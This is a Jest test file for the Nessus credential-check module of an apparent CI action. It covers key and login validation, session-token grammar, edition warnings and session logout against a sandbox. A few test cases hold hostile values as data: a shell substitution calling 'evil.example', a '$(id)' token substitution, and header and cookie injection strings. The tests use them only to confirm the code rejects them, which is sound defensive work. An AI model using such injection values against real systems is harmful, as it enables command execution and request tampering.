// Nessus: validation, the session-token grammar and the GET /session parser (unit), and the main and
// post steps in-process against the sandbox fake over HTTPS with its CA (action level).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { ActionFailure } from '../../core/failure.js'
import { buildPlan } from '../../plan/index.js'
import { INPUT_NAMES, type RawInputs } from '../../plan/input-names.js'
import { judgeEdition } from './edition.js'
import { nessus, parseSession, sessionToken } from './index.js'
import { startSandbox } from '../../../sandbox/index.js'
import { readActionInputs } from '../../../scripts/runner.js'
import { runMain, runPost } from '../../../__tests__/helpers/action.js'

type Sandbox = Awaited<ReturnType<typeof startSandbox>>
interface Account {
  username: string
  password: string
  accessKey: string
  secretKey: string
}
let sandbox: Sandbox
let accounts: Record<string, Account>
let sessions: Map<string, string>

beforeAll(async () => {
  sandbox = await startSandbox()
  accounts = sandbox.accounts.nessus as Record<string, Account>
  sessions = (sandbox.fake('nessus') as { sessions: Map<string, string> }).sessions
})
afterAll(() => sandbox.close())
beforeEach(() => sandbox.reset())

const AK = 'c3'.repeat(32)
const SK = 'd4'.repeat(32)

function failure(fn: () => unknown): ActionFailure {
  try {
    fn()
  } catch (error) {
    if (error instanceof ActionFailure) return error
    throw error
  }
  throw new Error('expected an ActionFailure')
}

function raw(inputs: Partial<RawInputs>): RawInputs {
  const defaults = readActionInputs()
  const all = {} as RawInputs
  for (const name of INPUT_NAMES) all[name] = inputs[name] ?? defaults[name]?.default ?? ''
  return all
}

const plan = (inputs: Partial<RawInputs>, env: NodeJS.ProcessEnv = {}) =>
  buildPlan(raw({ url: 'https://nessus.example.com:8834', ...inputs }), nessus, { env })

describe('validation before any request', () => {
  it('requires url: Nessus runs on your own server', () => {
    expect(
      failure(() => buildPlan(raw({ 'access-key': AK, 'secret-key': SK }), nessus, { env: {} }))
        .message
    ).toContain('The url input is required for Nessus')
  })

  it('checks API keys as 64 hexadecimal characters each, read from NESSUS_* too', () => {
    expect(plan({}, { NESSUS_ACCESS_KEY: AK, NESSUS_SECRET_KEY: SK })).toMatchObject({
      authMode: 'api-key',
      credentials: { 'access-key': AK, 'secret-key': SK }
    })
    const message = failure(() => plan({ 'access-key': AK, 'secret-key': SK.slice(0, 32) })).message
    expect(message).toContain('Nessus API keys are 64 hexadecimal characters each')
    expect(message).toContain('secret-key (32 characters)')
    expect(message).toContain('NESSUS_ACCESS_KEY / NESSUS_SECRET_KEY')
  })

  it('names 32-character hexadecimal keys as Tenable Security Center keys', () => {
    const message = failure(() =>
      plan({ 'access-key': AK.slice(0, 32), 'secret-key': SK.slice(0, 32) })
    ).message
    expect(message).toContain(
      'Both keys are 32 hexadecimal characters: the shape of Tenable Security Center (Tenable.sc) API keys, not Nessus keys.'
    )
    expect(message).toContain(
      'Fix: for a Tenable Security Center, set vendor: tenable-sc and its url; for Nessus, copy the keys again'
    )
  })

  it('recognises the whole "accessKey=…; secretKey=…;" line in one input', () => {
    const message = failure(() =>
      plan({ 'access-key': `accessKey=${AK}; secretKey=${SK};`, 'secret-key': SK })
    ).message
    expect(message).toContain(
      'The access-key input holds the whole "accessKey=…; secretKey=…;" line'
    )
    expect(message).toContain('(or NESSUS_ACCESS_KEY / NESSUS_SECRET_KEY)')
    expect(message).not.toContain(AK)
  })

  it('builds a session plan from username and password, without a key check', () => {
    expect(plan({ username: 'ada', password: 'p' })).toMatchObject({
      authMode: 'session',
      secrets: ['p']
    })
  })

  it('rejects keys and a password together', () => {
    expect(
      failure(() => plan({ 'access-key': AK, 'secret-key': SK, username: 'u', password: 'p' }))
        .message
    ).toContain('Conflicting credentials for Nessus')
  })

  it('refuses required-permissions, pointing to required-roles', () => {
    const message = failure(() =>
      plan({ username: 'u', password: 'p', 'required-permissions': 'scans' })
    ).message
    expect(message).toContain('The required-permissions input cannot be used with Nessus')
    expect(message).toContain('Use required-roles instead')
  })

  it('takes roles by name or level, and refuses others, listing the levels', () => {
    expect(
      plan({ username: 'u', password: 'p', 'required-roles': 'system administrator, 32' })
        .requiredRoles
    ).toEqual(['system administrator', '32'])
    expect(
      failure(() => plan({ username: 'u', password: 'p', 'required-roles': 'Scan Manager' }))
        .message
    ).toContain('Basic (16), Standard (32), Administrator (64), System Administrator (128)')
  })
})

describe('the session token grammar', () => {
  it('accepts the 48 hexadecimal characters Nessus issues', () => {
    const token = 'ea2143b2e3ae5d15da1998026408d7b0793d88b9150f78a0'
    expect(sessionToken(token, 'the token')).toBe(token)
  })

  it.each([
    ['a shell substitution', '$(curl evil.example)'],
    ['a header injection', `${'ab'.repeat(24)}\r\nX-Other: 1`],
    ['a second cookie', `${'ab'.repeat(24)}; admin=1`],
    ['too short', 'abc123'],
    ['empty', ''],
    ['absent', undefined]
  ])('refuses %s without quoting it', (_name, value) => {
    const message = failure(() => sessionToken(value, 'the session token')).message
    expect(message).toContain('The server answered with a malformed credential')
    expect(message).toContain('not a Nessus session token')
    if (value) expect(message).not.toContain(value)
  })
})

describe('parseSession: the GET /session shape', () => {
  it('reads the user and its level', () => {
    expect(
      parseSession({
        lockout: 0,
        connectors: null,
        whatsnew: true,
        container_id: 0,
        groups: null,
        lastlogin: 1700000000,
        permissions: 128,
        type: 'local',
        name: 'Root Sysadmin',
        email: 'root@acme.example',
        username: 'root',
        id: 1
      })
    ).toEqual({
      userId: '1',
      username: 'root',
      displayName: 'Root Sysadmin',
      email: 'root@acme.example',
      roles: ['System Administrator'],
      roleLevel: 128,
      permissions: undefined,
      organization: ''
    })
  })

  it('uses the username as the display name when there is no name, and leaves roles unknown without a level', () => {
    expect(parseSession({ id: 5, username: 'svc' })).toMatchObject({
      displayName: 'svc',
      roles: undefined
    })
  })
})

describe('judgeEdition: GET /server/properties', () => {
  it.each([
    ['Nessus Professional', true],
    ['Nessus Expert', true],
    ['Nessus Essentials', true],
    ['Nessus Home', true],
    ['Nessus Manager', false],
    ['manager', false],
    ['Nessus Scanner', false]
  ])('%s: a warning %s', (edition, warned) => {
    const judged = judgeEdition({ nessus_type: edition, server_version: '10.8.3' })
    expect(judged.warnings).toHaveLength(warned ? 1 : 0)
    expect(judged.notes[0]!.value.startsWith(edition)).toBe(true)
  })

  it('names no edition, and warns of nothing, when nessus_type is absent', () => {
    expect(judgeEdition(undefined)).toEqual({
      notes: [{ label: 'Edition', value: 'not reported (no nessus_type)' }],
      warnings: []
    })
    expect(judgeEdition({ nessus_type: 42 }).warnings).toEqual([])
  })

  it('reads the edition as one clean line', () => {
    const judged = judgeEdition({ nessus_type: 'Nessus Professional\n::error::x' })
    expect(judged.notes[0]!.value).not.toContain('\n')
    expect(judged.warnings[0]).not.toMatch(/^::/m)
  })
})

describe('Nessus main and post steps (real @actions/core, sandbox over HTTPS)', () => {
  const https = (inputs: Record<string, string>): Record<string, string> => ({
    vendor: 'nessus',
    url: `${sandbox.httpsLocalhostUrl}/_vendor/nessus`,
    'ca-cert': sandbox.caCertPath,
    ...inputs
  })
  const paths = (): string[] => sandbox.requests.map((r) => `${r.method} ${r.path}`)
  // In-process runs have no RUNNER_TEMP, so ca-cert adds a warning of its own: not this vendor's.
  const vendorWarnings = (warnings: string[]): string[] =>
    warnings.filter((warning) => !warning.startsWith('RUNNER_TEMP is not set'))

  it('verifies API keys with one GET /session and exports NESSUS_URL / _ACCESS_KEY / _SECRET_KEY', async () => {
    const admin = accounts.admin!
    const step = await runMain(
      https({
        'access-key': admin.accessKey,
        'secret-key': admin.secretKey,
        'required-roles': 'Standard'
      })
    )
    expect(step.errors).toEqual([])
    expect(step.exitCode).toBe(0)
    expect(paths()).toEqual(['GET /session', 'GET /server/properties'])
    const header = `accessKey=${admin.accessKey}; secretKey=${admin.secretKey};`
    expect(sandbox.requests[0]!.headers['x-apikeys']).toBe(header)
    expect(sandbox.requests[0]!.secure).toBe(true)
    expect(step.outputs).toMatchObject({
      vendor: 'nessus',
      'user-id': '2',
      username: 'ada',
      'display-name': 'Ada Admin',
      email: 'ada@acme.example',
      roles: '["Administrator"]',
      permissions: '[]',
      'auth-header': `X-ApiKeys: ${header}`,
      token: ''
    })
    expect(step.env).toMatchObject({
      NESSUS_URL: `${sandbox.httpsLocalhostUrl}/_vendor/nessus`,
      NESSUS_ACCESS_KEY: admin.accessKey,
      NESSUS_SECRET_KEY: admin.secretKey
    })
    expect(step.env.NESSUS_TOKEN).toBeUndefined()
    expect(step.masks).toEqual(expect.arrayContaining([admin.accessKey, admin.secretKey, header]))
    expect(step.state.logout).toBe('')
    // A Manager has the full API: the edition is noted, and nothing is warned.
    expect(sandbox.requests[1]!.headers['x-apikeys']).toBe(header)
    expect(step.log.join('\n')).toContain('Edition: Nessus Manager')
    expect(vendorWarnings(step.warnings)).toEqual([
      expect.stringMatching(
        /^Nessus: .* holds (System )?Administrator, an administrative role; a scan gate needs less\. Give the step a key of a user with Standard \(32\) instead\./
      )
    ])
  })

  it.each([
    ['nessus-professional', 'Nessus Professional'],
    ['nessus-expert', 'Nessus Expert']
  ])('passes on %s but warns that scan launches will be refused (412)', async (fault, edition) => {
    const admin = accounts.admin!
    const step = await runMain(
      https({
        url: `${sandbox.httpsLocalhostUrl}/_fault/${fault}/_vendor/nessus`,
        'access-key': admin.accessKey,
        'secret-key': admin.secretKey
      })
    )
    expect(step.errors).toEqual([])
    expect(step.exitCode).toBe(0)
    expect(paths()).toEqual(['GET /session', 'GET /server/properties'])
    expect(step.outputs.username).toBe('ada')
    expect(vendorWarnings(step.warnings)).toEqual([
      `Nessus: the credentials are valid, but ${edition} refuses scan-launching API calls (creating or launching a scan answers HTTP 412 "API is not available"; reading scans and reports works). To launch scans through an API, use Nessus Manager, Tenable VM (vendor: tenable-vm) or Tenable Security Center (vendor: tenable-sc).`,
      expect.stringMatching(
        /^Nessus: .* holds (System )?Administrator, an administrative role; a scan gate needs less\. Give the step a key of a user with Standard \(32\) instead\./
      )
    ])
    expect(step.log.join('\n')).toContain(`Edition: ${edition} (refuses scan-launching API calls)`)
    expect(step.summary).toContain(`${edition} (refuses scan-launching API calls)`)
  })

  it('the fake refuses a scan launch on Professional, as the recorded 412, and not on Manager', async () => {
    const headers = {
      'x-apikeys': `accessKey=${accounts.admin!.accessKey}; secretKey=${accounts.admin!.secretKey};`
    }
    const plain = `${sandbox.httpUrl}/_vendor/nessus`
    const pro = `${sandbox.httpUrl}/_fault/nessus-professional/_vendor/nessus`
    const launch = await fetch(`${pro}/scans/5/launch`, { method: 'POST', headers })
    expect(launch.status).toBe(412)
    expect(await launch.json()).toEqual({ error: 'API is not available' })
    expect((await fetch(`${pro}/session`, { headers })).status).toBe(200)
    expect((await fetch(`${plain}/scans/5/launch`, { method: 'POST', headers })).status).toBe(404)
  })

  it('logs in, reads the edition, exports the token, and the post step ends the session', async () => {
    const standard = accounts.standard!
    const inputs = https({
      username: standard.username,
      password: standard.password,
      'required-roles': '32'
    })
    const main = await runMain(inputs)
    expect(main.errors).toEqual([])
    expect(main.exitCode).toBe(0)
    expect(paths()).toEqual(['POST /session', 'GET /session', 'GET /server/properties'])
    expect(JSON.parse(sandbox.requests[0]!.body)).toEqual({
      username: standard.username,
      password: standard.password
    })
    const token = main.outputs.token!
    expect(token).toMatch(/^[0-9a-f]{48}$/)
    expect(sandbox.requests[1]!.headers['x-cookie']).toBe(`token=${token}`)
    expect(main.outputs['auth-header']).toBe(`X-Cookie: token=${token}`)
    expect(main.env).toMatchObject({
      NESSUS_URL: `${sandbox.httpsLocalhostUrl}/_vendor/nessus`,
      NESSUS_TOKEN: token
    })
    expect(main.env.NESSUS_ACCESS_KEY).toBeUndefined()
    expect(main.masks).toEqual(expect.arrayContaining([standard.password, token]))
    // Behaviour 2: the X-Cookie header value derived from the token is masked too.
    expect(main.masks).toContain(`token=${token}`)
    expect(sessions.has(token)).toBe(true)

    const post = await runPost(main.state, inputs)
    expect(post.warnings).toEqual([])
    expect(paths()).toEqual([
      'POST /session',
      'GET /session',
      'GET /server/properties',
      'DELETE /session'
    ])
    expect(sandbox.requests[2]!.headers['x-cookie']).toBe(`token=${token}`)
    expect(sandbox.requests[3]!.headers['x-cookie']).toBe(`token=${token}`)
    expect(sessions.has(token)).toBe(false)
    expect(post.log.join('\n')).toContain('Logged out of Nessus')
  })

  it('explains a wrong password after one request', async () => {
    const step = await runMain(https({ username: 'bea', password: 'not-the-password' }))
    expect(step.exitCode).toBe(1)
    expect(step.errors).toHaveLength(1)
    expect(step.errors[0]).toContain('Nessus: the login of bea was refused (HTTP 401')
    expect(step.errors[0]).toContain('Nessus said: Invalid Credentials')
    expect(step.errors[0]).toContain('the username or password is wrong')
    expect(paths()).toEqual(['POST /session'])
  })

  it('explains a url with an extra path as such, not as a wrong password', async () => {
    const admin = accounts.admin!
    const step = await runMain(
      https({
        url: `${sandbox.httpsLocalhostUrl}/_vendor/nessus/ui`,
        username: admin.username,
        password: admin.password
      })
    )
    expect(step.exitCode).toBe(1)
    expect(step.errors).toHaveLength(1)
    expect(step.errors[0]).toContain('Nessus: the endpoint was not found (HTTP 404')
    expect(step.errors[0]).toContain('POST')
    expect(step.errors[0]).toContain('/ui/session')
    expect(step.errors[0]).toContain('the url input does not point at the Nessus API')
    expect(step.errors[0]).toContain('the web interface instead of the API')
    expect(step.errors[0]).not.toContain('was refused')
    expect(paths()).toEqual(['POST /ui/session'])
  })

  it('explains the 412 of Nessus Professional, and ends the session it opened at once', async () => {
    const admin = accounts.admin!
    const step = await runMain(
      https({
        url: `${sandbox.httpsLocalhostUrl}/_fault/nessus-412/_vendor/nessus`,
        username: admin.username,
        password: admin.password
      })
    )
    expect(step.exitCode).toBe(1)
    expect(step.errors).toHaveLength(1)
    expect(step.errors[0]).toContain(
      'Nessus: the API is not available on this Nessus licence (Nessus Professional and Expert restrict it) (HTTP 412'
    )
    expect(step.errors[0]).toContain('Nessus said: API is not available')
    expect(step.errors[0]).toContain('Nessus Manager')
    expect(paths()).toEqual(['POST /session', 'GET /session', 'DELETE /session'])
    expect(step.state.logout).toBe('')
  })

  it('fails the level gate for a lower level, and the post step still ends the session', async () => {
    const basic = accounts.basic!
    const inputs = https({
      username: basic.username,
      password: basic.password,
      'required-roles': 'Administrator'
    })
    const main = await runMain(inputs)
    expect(main.exitCode).toBe(1)
    expect(main.errors[0]).toContain(
      'bea (Bea Basic, bea@acme.example) holds "Basic", and this step requires "Administrator" or a higher level (required-roles)'
    )
    expect(main.outputs.token).toBeUndefined()
    await runPost(main.state, inputs)
    expect(paths()).toEqual([
      'POST /session',
      'GET /session',
      'GET /server/properties',
      'DELETE /session'
    ])
    expect(sessions.size).toBe(0)
  })

  it('reports a session that had already ended as a line, not a warning', async () => {
    const admin = accounts.admin!
    const inputs = https({ username: admin.username, password: admin.password })
    const main = await runMain(inputs)
    expect(main.exitCode).toBe(0)
    sessions.clear()
    const post = await runPost(main.state, inputs)
    expect(post.exitCode).toBe(0)
    expect(post.warnings).toEqual([])
    expect(post.log.join('\n')).toContain(
      'the session was not ended: the server no longer knew it (HTTP 401'
    )
  })

  it('says a session whose logout the server failed may stay open, and no "try again later"', async () => {
    const url = `${sandbox.httpUrl}/_fault/500/_vendor/nessus`
    const post = await runPost(
      { logout: JSON.stringify({ vendor: 'nessus', url, session: { token: 'ab'.repeat(24) } }) },
      { vendor: 'nessus', url, username: 'ada', password: 'unused', retries: '0' }
    )
    expect(paths()).toEqual(['DELETE /session'])
    expect(post.exitCode).toBe(0)
    expect(post.warnings).toHaveLength(1)
    const [warning] = post.warnings
    expect(warning).toContain('Nessus: the session was not ended (HTTP 500')
    expect(warning).toContain('Nessus or a proxy in front of it failed the logout')
    expect(warning).not.toContain('try again later')
    expect(warning).not.toContain('status page')
    expect(warning).toContain(
      'The session may stay open until the server ends it by itself (its idle session timeout).'
    )
  })

  it.each([
    [
      403,
      // Nessus's 403 body as recorded (tenable/nessrest#60).
      { error: 'You are not authorized to perform this request' },
      'the session was not ended: the logout was refused (HTTP 403',
      'why DELETE /session is refused'
    ],
    [
      401,
      // Without Nessus's {"error": ...}: a proxy's 401, which says nothing of the session.
      {},
      'the session was not ended: the logout was refused, but not in the words of Nessus (HTTP 401',
      'a proxy or gateway in front of Nessus answered the DELETE with its own 401'
    ],
    [
      404,
      // Not Nessus's own: what answers a 404 here stands in front of it.
      {},
      'the session was not ended: DELETE /session was not found (HTTP 404',
      'the login reached /session at this same url'
    ]
  ])(
    'explains a logout answered %i as a logout, not as the check it is not',
    async (status, body, headline, line) => {
      // Only the logout fails: the url input and the user's permissions served the main step.
      const server = createServer((request, response) => {
        request.resume()
        response.writeHead(status, { 'content-type': 'application/json' })
        response.end(JSON.stringify(body))
      })
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
      try {
        const post = await runPost(
          {
            logout: JSON.stringify({ vendor: 'nessus', url, session: { token: 'cd'.repeat(24) } })
          },
          { vendor: 'nessus', url, username: 'ada', password: 'unused', retries: '0' }
        )
        expect(post.exitCode).toBe(0)
        expect(post.warnings).toHaveLength(1)
        const [warning] = post.warnings
        expect(warning).toContain(`Nessus: ${headline}`)
        if ('error' in body) expect(warning).toContain(`Nessus said: ${body.error}`)
        expect(warning).toContain(line)
        expect(warning).not.toContain('permission this check needs')
        expect(warning).not.toContain('set the url input')
        expect(warning).toContain('use API keys (access-key + secret-key)')
      } finally {
        server.closeAllConnections()
        await new Promise<void>((resolve) => server.close(() => resolve()))
      }
    }
  )

  it('refuses a tampered token in the saved state without sending it', async () => {
    const admin = accounts.admin!
    const inputs = https({ username: admin.username, password: admin.password })
    const main = await runMain(inputs)
    sandbox.reset()
    const state = { ...main.state }
    const key = Object.keys(state).find((name) => state[name]!.includes(main.outputs.token!))!
    state[key] = state[key]!.replace(main.outputs.token!, '$(id)')
    const post = await runPost(state, inputs)
    expect(post.exitCode).toBe(0)
    expect(sandbox.requests).toHaveLength(0)
    expect(post.warnings.join('\n')).toContain('malformed credential')
  })
})
